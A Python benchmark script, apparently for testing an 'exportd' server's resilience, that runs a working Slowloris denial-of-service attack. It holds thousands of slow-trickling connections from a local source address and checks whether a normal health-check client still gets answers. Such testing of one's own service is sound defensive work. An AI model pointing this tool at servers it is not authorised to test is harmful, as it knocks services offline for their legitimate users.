#!/usr/bin/python3
"""Slowloris against a running exportd, bounded in time.

    bench/slowloris.py URL [CONNECTIONS] [SECONDS] [SOURCE]

CONNECTIONS (default 4300) sockets from SOURCE (default 127.0.0.2) each send
a request line, then one header byte every 2 s, and reconnect when the
server closes them. Meanwhile a normal client on 127.0.0.1 sends one GET
/v1/health every SECONDS/15 (15 in all, 5 s timeout each). Prints what the
normal client got and how the attack connections were answered."""

import collections
import selectors
import socket
import sys
import time
from urllib.parse import urlparse

import requests


def main():
    url = sys.argv[1].rstrip("/")
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 4300
    secs = float(sys.argv[3]) if len(sys.argv) > 3 else 60
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.2"
    u = urlparse(url)
    sel = selectors.DefaultSelector()
    answers = collections.Counter()
    opened = 0

    def open_one():
        nonlocal opened
        s = socket.socket()
        s.setblocking(False)
        s.bind((source, 0))
        try:
            s.connect((u.hostname, u.port))
        except BlockingIOError:
            pass
        sel.register(s, selectors.EVENT_READ, [b"", False])
        opened += 1
        return s

    socks = set(open_one() for _ in range(n))
    t_start = time.monotonic()
    next_probe, probes, ok, lat = t_start + 1, 0, 0, []
    next_trickle = t_start
    while time.monotonic() - t_start < secs:
        for key, _ in sel.select(timeout=0.05):
            s, st = key.fileobj, key.data
            try:
                c = s.recv(4096)
            except OSError:
                c = b""
            if c:
                st[0] += c
                continue
            code = st[0][9:12].decode() if st[0].startswith(b"HTTP/") else "closed"
            answers[code] += 1
            sel.unregister(s)
            s.close()
            socks.discard(s)
            socks.add(open_one())
        now = time.monotonic()
        if now >= next_trickle:
            for s in list(socks):
                st = sel.get_key(s).data
                try:
                    s.send(b"X" if st[1] else b"GET /v1/health HTTP/1.1\r\nHost: x\r\n")
                    st[1] = True
                except OSError:
                    pass
            next_trickle = now + 2
        if now >= next_probe and probes < 15:
            probes += 1
            t0 = time.monotonic()
            try:
                r = requests.get(url + "/v1/health", timeout=5,
                                 headers={"Connection": "close"})
                ok += r.status_code == 200
                answers["normal client " + str(r.status_code)] += 1
            except requests.RequestException as e:
                answers["normal client " + type(e).__name__] += 1
            lat.append(time.monotonic() - t0)
            next_probe = now + secs / 15
    for s in socks:
        s.close()
    print("attack: %d connections held from %s, %d opened in %.0f s" % (n, source, opened, secs))
    print("normal client: %d of %d answered 200; slowest %.3f s, median %.3f s" % (
        ok, probes, max(lat), sorted(lat)[len(lat) // 2]))
    for k, v in sorted(answers.items()):
        print("  %s: %d" % (k, v))


if __name__ == "__main__":
    main()
